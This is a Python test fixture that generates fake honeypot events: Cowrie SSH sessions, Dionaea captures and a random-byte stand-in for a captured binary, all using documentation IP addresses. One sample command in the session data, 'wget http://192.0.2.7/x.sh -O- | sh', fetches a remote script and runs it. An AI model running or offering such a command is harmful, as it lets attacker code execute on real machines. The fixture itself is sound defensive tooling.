# SPDX-License-Identifier: Apache-2.0
"""Events as honeypots publish them: the fields are theirs, the values are made up (documentation addresses)."""
import hashlib
import json
import random

FRAME_BYTES_MAX = 5 + 1024 * 1024
BINARY_CHANNEL = "mwbinary.dionaea.sensorunique"


def cowrie_session(number):
    return {
        "session": f"{number:012x}",
        "startTime": "2026-03-01T10:00:00.000000Z",
        "endTime": "2026-03-01T10:00:07.250000Z",
        "peerIP": f"198.51.100.{number % 254 + 1}",
        "peerPort": 40000 + number,
        "hostIP": "203.0.113.5",
        "hostPort": 22,
        "loggedin": ["root", "pässwörd"],
        "credentials": [["admin", "admin"], ["root", "123456"]],
        "commands": ["uname -a", "cd /tmp; wget http://192.0.2.7/x.sh -O- | sh"],
        "unknownCommands": [],
        "urls": ["http://192.0.2.7/x.sh"],
        "version": "SSH-2.0-libssh2_1.4.3",
        "ttylog": bytes(range(256)).hex(),
        "hashes": [hashlib.sha256(b"%d" % number).hexdigest()],
        "protocol": "ssh",
    }


def dionaea_capture(number):
    return {
        "time": "2026-03-01 10:00:00",
        "saddr": f"198.51.100.{number % 254 + 1}",
        "sport": str(50000 + number),
        "daddr": "203.0.113.5",
        "dport": "445",
        "md5": hashlib.md5(b"%d" % number).hexdigest(),
        "sha512": hashlib.sha512(b"%d" % number).hexdigest(),
        "url": f"http://192.0.2.7/{number}.exe",
    }


def malware_binary(ident):
    """As much as one frame can carry: a mebibyte less the two names in front of it."""
    size = FRAME_BYTES_MAX - 5 - 1 - len(ident) - 1 - len(BINARY_CHANNEL)
    return b"MZ" + random.Random(7).randbytes(size - 2)


def all_events(ident="sensor"):
    """A list of (channel, payload)."""
    events = []
    for number in range(50):
        events.append(("cowrie.sessions", json.dumps(cowrie_session(number)).encode()))
        events.append(("dionaea.capture", json.dumps(dionaea_capture(number)).encode()))
    events.insert(50, (BINARY_CHANNEL, malware_binary(ident)))
    events.append((BINARY_CHANNEL, bytes(range(256)) * 16))
    return events
